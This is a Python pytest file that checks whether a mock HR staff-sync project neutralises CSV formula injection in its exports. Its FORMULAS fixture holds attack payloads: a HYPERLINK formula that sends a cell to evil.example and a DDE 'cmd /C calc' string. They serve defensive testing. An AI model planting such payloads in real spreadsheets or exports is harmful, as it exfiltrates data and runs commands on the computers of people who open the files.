"""Issue 14, item 9: no CSV the project writes lets a spreadsheet run HR's text as a formula.

OWASP "CSV Injection": a text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed
with `'` (boi_mock/admin/csv_export.py); the Validation Report's CSV (SYNC-4) carries names as HR sent them.
"""

from __future__ import annotations

import csv
import io

import pytest

from boi_mock.admin import upload
from boi_mock.admin.csv_export import safe_cell
from tests.support import staff_payload
from tests.ui.support import Campus

STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = {"lastName": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "firstName": "@SUM(1+1)*cmd|' /C calc'!A0",
            "middleName": "+1-2", "workPhone": "-2+3", "workEmail": "\tx@y.org", "personalEmail": "\r=1+1@y.org"}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_sync4_csv_cell_starting_like_a_formula_is_prefixed_with_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Brown", "O'Neil", "1 = 1", "a@b.org", "", None, 3, -3])
def test_sync4_csv_cell_not_starting_like_a_formula_is_kept(value: object) -> None:
    assert safe_cell(value) == value


def test_sync4_validation_report_csv_neutralises_hr_formulas(campus: Campus) -> None:
    district = campus.district
    hired = staff_payload("20001", **FORMULAS)
    brown = {"staffNumber": "10058", **{k: v for k, v in FORMULAS.items() if k not in ("lastName", "firstName")}}
    for name, body in (("start", None), ("transfer", [hired, brown]), ("end", None), ("validate", None)):
        response = district.post(f"/staffMembers/sync/{name}", body)
        assert response.status_code in (200, 201), response.text
    as_csv = campus.get("sync/report.csv")
    assert as_csv.status_code == 200
    rows = list(csv.DictReader(io.StringIO(as_csv.text, newline="")))
    added = next(r for r in rows if r["section"] == "staffToAdd")
    shown = {field: added[field] for field in FORMULAS if added.get(field)}
    assert shown == {field: "'" + FORMULAS[field] for field in shown}
    assert {"lastName", "firstName", "middleName"} <= set(shown), added
    hr_side = next(r for r in rows if r["section"] == "demographicDifferences" and r["system"] == "hr")
    assert {field: hr_side[field] for field in ("middleName", "workPhone", "workEmail", "personalEmail")} == {
        field: "'" + FORMULAS[field] for field in ("middleName", "workPhone", "workEmail", "personalEmail")}
    # No cell of the file starts like a formula (counts are non-negative numbers).
    assert not [cell for row in rows for cell in row.values() if cell and cell.startswith(STARTS)]


def test_csv_template_download_is_neutralised_too() -> None:
    rows = list(csv.reader(io.StringIO(upload.template_csv(), newline="")))
    assert rows and not [cell for row in rows for cell in row if cell.startswith(STARTS)]
